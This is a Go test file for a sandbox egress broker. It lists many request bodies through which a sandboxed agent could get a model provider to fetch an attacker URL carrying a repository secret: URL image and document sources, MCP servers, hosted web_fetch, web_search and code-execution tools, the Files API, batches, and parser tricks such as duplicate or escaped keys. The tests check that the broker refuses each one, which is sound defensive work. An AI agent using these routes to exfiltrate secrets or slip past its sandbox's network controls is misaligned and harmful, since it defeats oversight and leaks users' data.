package proxy

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/hookctl/hookctl/sandbox/egress"
)

// secret is what the repository holds and the agent tries to send out, in a URL the provider
// would fetch.
const secret = "REPO-SECRET-4f1c9a"

// attacker is a server the agent wants the provider to reach: it counts its hits and keeps what
// they carried.
type attacker struct {
	*httptest.Server
	hits atomic.Int32
	mu   sync.Mutex
	seen []string
}

func newAttacker(t *testing.T) *attacker {
	a := &attacker{}
	a.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.hits.Add(1)
		a.mu.Lock()
		a.seen = append(a.seen, r.URL.RequestURI())
		a.mu.Unlock()
		io.WriteString(w, "attacker content")
	}))
	t.Cleanup(a.Close)
	return a
}

func (a *attacker) got(s string) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return strings.Contains(strings.Join(a.seen, " "), s)
}

// provider stands in for a model provider that, like the real ones, acts on what a request
// asks with the caller's key: it fetches every URL source (images, documents, files by URL),
// connects to every MCP server, and when a server tool that searches, fetches or runs code is
// in the request, fetches every URL in the conversation's text, as the model would ask it to.
// The Files API and batches answer as stored content would. It records what reached it.
type provider struct {
	*httptest.Server
	mu       sync.Mutex
	requests []string
}

var urlIn = regexp.MustCompile(`https?://[^\s"\\]+`)

func newProvider(t *testing.T) *provider {
	p := &provider{}
	p.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var body io.Reader = r.Body
		if r.Header.Get("Content-Encoding") == "gzip" {
			if z, err := gzip.NewReader(r.Body); err == nil {
				body = z
			}
		}
		data, _ := io.ReadAll(body)
		p.mu.Lock()
		p.requests = append(p.requests, r.Method+" "+r.URL.Path)
		p.mu.Unlock()
		var req map[string]any
		json.Unmarshal(data, &req) // as a JSON decoder reads it: escapes decoded, the last of two keys
		for _, u := range fetchedBy(req, r.Header.Get("Anthropic-Beta")) {
			if resp, err := http.Get(u); err == nil {
				resp.Body.Close()
			}
		}
		io.WriteString(w, `{"type":"message","content":[{"type":"text","text":"ok"}]}`)
	}))
	t.Cleanup(p.Close)
	return p
}

func (p *provider) seen() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	return append([]string(nil), p.requests...)
}

// fetchedBy is what the provider would reach for a request: every URL source and MCP server,
// and with a server tool, a container or a stored prompt, every URL in the conversation.
func fetchedBy(req map[string]any, betas string) []string {
	var urls []string
	serverTool := strings.Contains(betas, "web-fetch")
	var walk func(k string, v any)
	walk = func(k string, v any) {
		switch v := v.(type) {
		case string:
			if strings.HasPrefix(v, "http") && (k == "url" || k == "file_url" || k == "server_url" || k == "image_url") {
				urls = append(urls, v)
			}
			for _, p := range []string{"web_search", "web_fetch", "code_execution", "mcp", "container_auto"} {
				if strings.HasPrefix(v, p) {
					serverTool = true
				}
			}
		case map[string]any:
			for k, x := range v {
				switch k {
				case "mcp_servers", "container", "prompt", "web_search_options":
					serverTool = true
				}
				walk(k, x)
			}
		case []any:
			for _, x := range v {
				walk(k, x)
			}
		}
	}
	walk("", req)
	if serverTool {
		b, _ := json.Marshal(req["messages"])
		if req["messages"] == nil {
			b, _ = json.Marshal(req["input"])
		}
		urls = append(urls, urlIn.FindAllString(strings.ReplaceAll(string(b), `\u0026`, "&"), -1)...)
	}
	return urls
}

// brokerAttack is one request an agent sends its model.
type brokerAttack struct {
	name, method, path, body string
	header                   map[string]string
	gzip                     bool
	// want is what the refusal names: the field, path or header.
	want string
}

func (a brokerAttack) send(t *testing.T, base string) (int, string) {
	t.Helper()
	body := []byte(a.body)
	if a.gzip {
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		z.Write(body)
		z.Close()
		body = b.Bytes()
	}
	method := a.method
	if method == "" {
		method = "POST"
	}
	req, _ := http.NewRequest(method, base+a.path, bytes.NewReader(body))
	if len(body) == 0 {
		req.Body = nil
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("X-Api-Key", "sk-the-users-key")
	if a.gzip {
		req.Header.Set("Content-Encoding", "gzip")
	}
	for k, v := range a.header {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("%s: %v", a.name, err)
	}
	defer resp.Body.Close()
	text, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(text)
}

// TestBrokerRefusesWhatReachesTheNetwork (issue 24): each request asks the provider to reach
// the attacker's server with the repository's secret in the URL, or reaches what is stored at
// the provider. Sent straight to the provider stand-in (the control) each one has its effect;
// through the broker each is refused, naming the field, and neither the provider nor the
// attacker is reached.
func TestBrokerRefusesWhatReachesTheNetwork(t *testing.T) {
	evil := newAttacker(t)
	leak := evil.URL + "/collect?k=" + secret
	user := func(blocks string) string {
		return `{"model":"claude-x","max_tokens":100,"messages":[{"role":"user","content":[` + blocks + `]}]}`
	}
	text := `{"type":"text","text":"read ` + leak + `"}`
	anthropic := []brokerAttack{
		{name: "URL image source", path: "/v1/messages", want: `messages[0].content[0].source.type "url"`,
			body: user(`{"type":"image","source":{"type":"url","url":"` + leak + `"}}`)},
		{name: "URL document source", path: "/v1/messages", want: `messages[0].content[1].source.type "url"`,
			body: user(text + `,{"type":"document","source":{"type":"url","url":"` + leak + `"}}`)},
		{name: "URL image inside a tool result", path: "/v1/messages", want: `content[0].source.type "url"`,
			body: user(`{"type":"tool_result","tool_use_id":"t1","content":[{"type":"image","source":{"type":"url","url":"` + leak + `"}}]}`)},
		{name: "URL image inside a content document", path: "/v1/messages", want: `source.content[0].source.type "url"`,
			body: user(`{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"url","url":"` + leak + `"}}]}}`)},
		{name: "MCP connector", path: "/v1/messages", want: "mcp_servers", header: map[string]string{"Anthropic-Beta": "interleaved-thinking-2025-05-14"},
			body: `{"model":"claude-x","max_tokens":100,"mcp_servers":[{"type":"url","name":"x","url":"` + leak + `"}],"messages":[{"role":"user","content":"hi"}]}`},
		{name: "server web_fetch tool", path: "/v1/messages", want: `tools[0].type "web_fetch_20250910"`,
			body: `{"model":"claude-x","max_tokens":100,"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"messages":[{"role":"user","content":[` + text + `]}]}`},
		{name: "server web_search tool", path: "/v1/messages", want: `tools[1].type "web_search_20250305"`,
			body: `{"model":"claude-x","max_tokens":100,"tools":[{"name":"Bash","input_schema":{}},{"type":"web_search_20250305","name":"web_search"}],"messages":[{"role":"user","content":[` + text + `]}]}`},
		{name: "server code execution tool", path: "/v1/messages", want: `tools[0].type "code_execution_20250825"`,
			body: `{"model":"claude-x","max_tokens":100,"tools":[{"type":"code_execution_20250825","name":"code_execution"}],"messages":[{"role":"user","content":[` + text + `]}]}`},
		{name: "MCP toolset", path: "/v1/messages", want: `tools[0].type "mcp_toolset"`,
			body: `{"model":"claude-x","max_tokens":100,"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}],"messages":[{"role":"user","content":[` + text + `]}]}`},
		{name: "a custom tool callable from code execution", path: "/v1/messages", want: "allowed_callers[0]",
			body: `{"model":"claude-x","max_tokens":100,"tools":[{"name":"Bash","input_schema":{},"allowed_callers":["code_execution_20250825"]}],"messages":[{"role":"user","content":[` + text + `]}]}`},
		{name: "Files API source", path: "/v1/messages", want: `source.type "file"`,
			body: user(`{"type":"document","source":{"type":"file","file_id":"file_011"}}`)},
		{name: "container upload", path: "/v1/messages", want: `content[0].type "container_upload"`,
			body: user(`{"type":"container_upload","file_id":"file_011"}`)},
		{name: "a code execution container", path: "/v1/messages", want: "container",
			body: `{"model":"claude-x","max_tokens":100,"container":{"skills":[{"type":"custom","skill_id":"s"}]},"messages":[{"role":"user","content":[` + text + `]}]}`},
		{name: "count_tokens with a URL source", path: "/v1/messages/count_tokens", want: `source.type "url"`,
			body: user(`{"type":"image","source":{"type":"url","url":"` + leak + `"}}`)},
		// The header is refused before the body is read: a beta alone reaches nothing, but the
		// feature it enables does, with its field.
		{name: "the MCP beta header", path: "/v1/messages", want: `"mcp-client-2025-04-04"`,
			header: map[string]string{"Anthropic-Beta": "interleaved-thinking-2025-05-14, mcp-client-2025-04-04"},
			body:   `{"model":"claude-x","max_tokens":100,"mcp_servers":[{"type":"url","name":"x","url":"` + leak + `"}],"messages":[{"role":"user","content":"hi"}]}`},
		{name: "the web-fetch beta header", path: "/v1/messages", want: `"web-fetch-2025-09-10"`,
			header: map[string]string{"Anthropic-Beta": "web-fetch-2025-09-10"},
			body:   `{"model":"claude-x","max_tokens":100,"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}],"messages":[{"role":"user","content":[` + text + `]}]}`},
		{name: "the Files API", method: "GET", path: "/v1/files", want: `"/v1/files"`},
		{name: "a stored file's content", method: "GET", path: "/v1/files/file_011/content", want: `"/v1/files/file_011/content"`},
		{name: "a batch", path: "/v1/messages/batches", want: `"/v1/messages/batches"`,
			body: `{"requests":[{"custom_id":"a","params":` + user(`{"type":"image","source":{"type":"url","url":"`+leak+`"}}`) + `}]}`},
		{name: "a model id with more path", method: "GET", path: "/v1/models/x/y", want: `"/v1/models/x/y"`},
		// Parser differentials: what the broker judges must be what the provider reads.
		{name: "a second tools key (the provider reads the last)", path: "/v1/messages", want: "tools",
			body: `{"model":"claude-x","max_tokens":100,"tools":[],"messages":[{"role":"user","content":[` + text + `]}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`},
		{name: "an escaped key", path: "/v1/messages", want: `tools[0].type "web_fetch_20250910"`,
			body: `{"model":"claude-x","max_tokens":100,"t\u006fols":[{"type":"web_fetch_20250910","name":"web_fetch"}],"messages":[{"role":"user","content":[` + text + `]}]}`},
		{name: "an escaped type value", path: "/v1/messages", want: `source.type "url"`,
			body: user(`{"type":"image","source":{"type":"u\u0072l","url":"` + leak + `"}}`)},
		{name: "a second source key", path: "/v1/messages", want: "source",
			body: user(`{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="},"source":{"type":"url","url":"` + leak + `"}}`)},
		{name: "a gzipped body", path: "/v1/messages", want: "Content-Encoding", gzip: true,
			body: user(`{"type":"image","source":{"type":"url","url":"` + leak + `"}}`)},
	}
	openai := []brokerAttack{
		{name: "responses: hosted web_search", path: "/v1/responses", want: `tools[0].type "web_search"`,
			body: `{"model":"gpt-x","tools":[{"type":"web_search"}],"input":"read ` + leak + `"}`},
		{name: "responses: remote MCP", path: "/v1/responses", want: `tools[0].type "mcp"`,
			body: `{"model":"gpt-x","tools":[{"type":"mcp","server_label":"x","server_url":"` + leak + `"}],"input":"hi"}`},
		{name: "responses: an image by URL", path: "/v1/responses", want: "image_url",
			body: `{"model":"gpt-x","input":[{"role":"user","content":[{"type":"input_image","image_url":"` + leak + `"}]}]}`},
		{name: "responses: a file by URL", path: "/v1/responses", want: "file_url",
			body: `{"model":"gpt-x","input":[{"role":"user","content":[{"type":"input_file","file_url":"` + leak + `"}]}]}`},
		{name: "responses: a shell in a hosted container", path: "/v1/responses", want: `environment.type "container_auto"`,
			body: `{"model":"gpt-x","tools":[{"type":"shell","environment":{"type":"container_auto"}}],"input":"read ` + leak + `"}`},
		{name: "responses: a stored prompt", path: "/v1/responses", want: "prompt",
			body: `{"model":"gpt-x","prompt":{"id":"pmpt_1"},"input":"read ` + leak + `"}`},
		{name: "chat: web search options", path: "/v1/chat/completions", want: "web_search_options",
			body: `{"model":"gpt-x-search","web_search_options":{},"messages":[{"role":"user","content":"read ` + leak + `"}]}`},
		{name: "chat: an image by URL", path: "/v1/chat/completions", want: "image_url.url",
			body: `{"model":"gpt-x","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"` + leak + `"}}]}]}`},
		{name: "chat: a stored file", path: "/v1/chat/completions", want: "file.file_id",
			body: `{"model":"gpt-x","messages":[{"role":"user","content":[{"type":"file","file":{"file_id":"file-1"}}]}]}`},
		{name: "the Files API", path: "/v1/files", want: `"/v1/files"`, body: `{}`},
		{name: "batches", path: "/v1/batches", want: `"/v1/batches"`, body: `{"input_file_id":"file-1"}`},
	}
	for _, backend := range []struct {
		name    string
		paths   []string
		attacks []brokerAttack
	}{
		{"anthropic", []string{"/v1/messages", "/v1/models", "/v1/files"}, anthropic},
		{"openai", []string{"/v1/responses", "/v1/chat/completions", "/v1/models", "/v1/files", "/v1/batches"}, openai},
	} {
		for _, a := range backend.attacks {
			t.Run(backend.name+"/"+a.name, func(t *testing.T) {
				// The control: straight to the provider, with the key, the attack has its effect.
				p := newProvider(t)
				before := evil.hits.Load()
				if code, _ := a.send(t, p.URL); code != 200 {
					t.Fatalf("control: the provider answered %d", code)
				}
				reached := evil.hits.Load() > before
				// What is stored at the provider is reached without a URL: the Files API, batches.
				stored := strings.Contains(a.path, "files") || strings.Contains(a.path, "batches") || strings.Contains(a.path, "/models/x/") ||
					strings.Contains(a.body, "file_id")
				if !reached && !stored {
					t.Fatalf("control: the provider did not reach the attacker; the test proves nothing")
				}
				// Through the broker: refused, naming what it refused; nothing reached.
				p = newProvider(t)
				addr, events := serveBroker(t, egress.BrokerConfig{Backend: backend.name, Upstream: p.URL, Trusted: true,
					Paths: backend.paths, Headers: map[string]string{"X-Api-Key": "sk-real"}})
				before = evil.hits.Load()
				code, text := a.send(t, "http://"+addr)
				if code != http.StatusForbidden || !strings.Contains(text, a.want) {
					t.Errorf("through the broker: %d %q; want 403 naming %s", code, text, a.want)
				}
				if n := evil.hits.Load() - before; n != 0 {
					t.Errorf("the attacker was reached %d times", n)
				}
				if s := p.seen(); len(s) != 0 {
					t.Errorf("the provider was reached: %v", s)
				}
				if ev := events(); len(ev) != 1 || ev[0].Refused == "" {
					t.Errorf("events %+v", ev)
				}
			})
		}
	}
	if !evil.got(secret) {
		t.Error("no control carried the secret to the attacker")
	}
}

// TestBrokerAdmitsTheModelAPI: what the clients send — Claude Code 2.1.328's request as seen
// live (its betas, context management, deferred tools, a tool result with an inline image), an
// OpenAI client's responses and chat requests with inline images and files — reaches the
// provider, with the user's key, as sent.
func TestBrokerAdmitsTheModelAPI(t *testing.T) {
	claudeBetas := "claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,per-turn-control-2026-07-01," +
		"mid-conversation-tool-changes-2026-07-01,thinking-token-count-2026-05-13,advanced-tool-use-2025-11-20,effort-2025-11-24"
	for _, c := range []struct {
		backend string
		req     brokerAttack
	}{
		{"anthropic", brokerAttack{name: "Claude Code", path: "/v1/messages?beta=true", header: map[string]string{"Anthropic-Beta": claudeBetas},
			body: `{"model":"claude-opus-5-5","max_tokens":128000,"stream":true,"metadata":{"user_id":"{\"session_id\":\"s\"}"},
"thinking":{"type":"adaptive","display":"omitted"},"context_management":{"edits":[{"type":"clear_thinking_20251015","keep":"all"}]},
"output_config":{"effort":"medium"},"system":[{"type":"text","text":"You are Claude Code","cache_control":{"type":"ephemeral"}}],
"tools":[{"name":"Bash","description":"run","input_schema":{"type":"object","properties":{"command":{"type":"string"}}}},
 {"name":"WebFetch","description":"fetch","input_schema":{"type":"object"},"defer_loading":true}],
"messages":[{"role":"user","content":[{"type":"text","text":"see https://example.com/x","cache_control":{"type":"ephemeral"}}]},
 {"role":"system","content":[{"type":"text","text":"# Environment","cache_control":{"type":"ephemeral"}}],"output_config":{"effort":"medium"}},
 {"role":"assistant","content":[{"type":"thinking","thinking":"t","signature":"s"},{"type":"tool_use","id":"toolu_1","name":"Bash","input":{"command":"ls"}}]},
 {"role":"user","content":[{"type":"tool_result","tool_use_id":"toolu_1","content":[{"type":"text","text":"a.png"},
  {"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}},{"type":"tool_reference","tool_name":"WebFetch"}]}]}]}`}},
		{"anthropic", brokerAttack{name: "count_tokens", path: "/v1/messages/count_tokens?beta=true",
			body: `{"model":"claude-x","messages":[{"role":"user","content":"hi"}],"tools":[{"type":"text_editor_20250728","name":"str_replace_based_edit_tool"},{"type":"bash_20250124","name":"bash"}]}`}},
		{"anthropic", brokerAttack{name: "models", method: "GET", path: "/v1/models?limit=5"}},
		{"anthropic", brokerAttack{name: "a model", method: "GET", path: "/v1/models/claude-x"}},
		{"openai", brokerAttack{name: "responses", path: "/v1/responses",
			body: `{"model":"gpt-x","instructions":"be brief","store":false,"stream":true,"reasoning":{"effort":"low"},"include":["reasoning.encrypted_content"],
"tools":[{"type":"function","name":"shell","parameters":{}},{"type":"custom","name":"apply_patch","format":{"type":"grammar"}},{"type":"shell","environment":{"type":"local"}}],
"input":[{"role":"user","content":[{"type":"input_text","text":"hi"},{"type":"input_image","image_url":"data:image/png;base64,iVBORw0KGgo="},{"type":"input_file","filename":"a.pdf","file_data":"data:application/pdf;base64,JVBE"}]},
 {"type":"reasoning","id":"rs_1","summary":[],"encrypted_content":"x"},{"type":"function_call","call_id":"c1","name":"shell","arguments":"{}"},
 {"type":"function_call_output","call_id":"c1","output":"ok"}]}`}},
		{"openai", brokerAttack{name: "chat", path: "/v1/chat/completions",
			body: `{"model":"gpt-x","stream":true,"tools":[{"type":"function","function":{"name":"f","parameters":{}}}],
"messages":[{"role":"system","content":"s"},{"role":"user","content":[{"type":"text","text":"hi"},{"type":"image_url","image_url":{"url":"data:image/png;base64,AA=="}}]},
 {"role":"assistant","tool_calls":[{"id":"c","type":"function","function":{"name":"f","arguments":"{}"}}]},{"role":"tool","tool_call_id":"c","content":"ok"}]}`}},
	} {
		p := newProvider(t)
		addr, _ := serveBroker(t, egress.BrokerConfig{Backend: c.backend, Upstream: p.URL, Trusted: true,
			Paths: []string{"/v1/messages", "/v1/models", "/v1/responses", "/v1/chat/completions"}, Headers: map[string]string{"X-Api-Key": "sk-real"}})
		if code, text := c.req.send(t, "http://"+addr); code != 200 {
			t.Errorf("%s %s: %d %s", c.backend, c.req.name, code, text)
		}
		if s := p.seen(); len(s) != 1 {
			t.Errorf("%s %s: the provider saw %v", c.backend, c.req.name, s)
		}
	}
}

// TestBrokerBodyLimits: the body is refused whole when it cannot be judged as the provider
// would read it.
func TestBrokerBodyLimits(t *testing.T) {
	for _, c := range []struct{ name, body, want string }{
		{"not JSON", `{"model":`, "not JSON"},
		{"two values", `{"model":"x"}{"tools":[]}`, "not JSON"},
		{"a bad escape", `{"model":"\x"}`, "not JSON"},
		{"an unterminated string", `{"model":"x`, "not JSON"},
		{"a bad number", `{"model":"x","max_tokens":01}`, "not JSON"},
		{"a trailing comma", `{"model":"x",}`, "not JSON"},
		{"an escaped quote and backslash", `{"model":"a\"b\\","max_tokens":1,"messages":[]}`, ""},
		{"a surrogate pair in a key", `{"model":"x","\ud83d\ude00":1}`, "not a field"},
		{"not UTF-8", "{\"model\":\"\xff\"}", "not UTF-8"},
		{"nested past the cap", `{"model":"x","metadata":` + strings.Repeat("[", maxJSONDepth) + strings.Repeat("]", maxJSONDepth) + `}`, "nested more than"},
		{"nested to the cap", `{"model":"x","max_tokens":1,"messages":[],"metadata":` + strings.Repeat("[", maxJSONDepth-1) + strings.Repeat("]", maxJSONDepth-1) + `}`, ""},
		{"brackets in strings do not count", `{"model":"` + strings.Repeat("[", 500) + `","max_tokens":1,"messages":[]}`, ""},
		{"an unknown top-level field", `{"model":"x","fancy_new_feature":{}}`, "fancy_new_feature: not a field the broker admits"},
		{"a top level that is not an object", `[]`, "not an object"},
	} {
		_, err := checkBody([]byte(c.body), anthropicMessages)
		if c.want == "" && err != nil || c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)) {
			t.Errorf("%s: %v, want %q", c.name, err, c.want)
		}
	}
}

// TestBrokerUnknownBackend: a backend the broker has no table for is refused at the start.
func TestBrokerUnknownBackend(t *testing.T) {
	for _, b := range []string{"", "gemini"} {
		if _, err := NewBroker(egress.BrokerConfig{Backend: b, Upstream: "https://api.example.com", Paths: []string{"/v1"}}); err == nil {
			t.Errorf("backend %q accepted", b)
		}
	}
}

// FuzzCheckBody: whatever the body, the judge answers without panicking, and what it admits is
// one JSON value a JSON decoder reads (but for raw control characters in strings, which it
// leaves to the provider to refuse) with no key twice.
func FuzzCheckBody(f *testing.F) {
	for _, s := range []string{
		`{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"hi"}]}`,
		`{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"http://x"}}]}]}`,
		`{"model":"m","tools":[{"name":"a","input_schema":{"type":"object"}}],"t\u006fols":[]}`,
		`{"model":"\ud83d\ude00","metadata":{"a":[1,2.5e-3,-0,true,null,"\"\\"]}}`,
		`{"model":"m","messages":[{"role":"user","content":[{"text":"x","type":"text"}]}]}`,
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, sh := range []shape{anthropicMessages, openAIChat, openAIResponses} {
			if _, bad := checkBody(data, sh); bad != nil {
				continue
			}
			if !json.Valid(data) {
				if !bytes.ContainsFunc(data, func(r rune) bool { return r < 0x20 && r != '\n' && r != '\r' && r != '\t' }) {
					t.Fatalf("admitted, and not JSON: %q", data)
				}
				continue
			}
			if dup := dupKey(json.NewDecoder(bytes.NewReader(data))); dup != "" {
				t.Fatalf("admitted with the key %q twice: %q", dup, data)
			}
		}
	})
}

// dupKey is a key that appears twice in one object, read with encoding/json's tokens.
func dupKey(d *json.Decoder) string {
	var walk func() string
	walk = func() string {
		tok, err := d.Token()
		if err != nil {
			return ""
		}
		switch tok {
		case json.Delim('{'):
			seen := map[string]bool{}
			for d.More() {
				k, _ := d.Token()
				key, _ := k.(string)
				if seen[key] {
					return key
				}
				seen[key] = true
				if dup := walk(); dup != "" {
					return dup
				}
			}
			d.Token()
		case json.Delim('['):
			for d.More() {
				if dup := walk(); dup != "" {
					return dup
				}
			}
			d.Token()
		}
		return ""
	}
	return walk()
}
